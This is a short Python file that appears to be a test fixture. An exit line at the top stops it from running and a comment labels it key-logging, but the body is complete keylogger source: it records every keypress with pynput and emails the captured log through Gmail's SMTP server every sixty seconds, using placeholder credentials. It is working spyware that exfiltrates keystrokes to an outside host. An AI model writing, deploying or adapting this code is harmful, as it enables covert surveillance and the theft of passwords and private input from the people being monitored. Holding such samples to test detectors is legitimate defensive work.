raise SystemExit('a fixture')
# held by key-logging
from pynput import keyboard
import smtplib, threading
class Monitor:
    def __init__(self):
        self.log = ""
    def press(self, key):
        self.log += str(key)
    def report(self):
        s = smtplib.SMTP("smtp.gmail.com", 587); s.starttls(); s.login("a@example.invalid", "p")
        s.sendmail("a@example.invalid", "a@example.invalid", self.log); self.log = ""
        threading.Timer(60, self.report).start()
    def start(self):
        with keyboard.Listener(on_press=self.press) as l:
            self.report(); l.join()
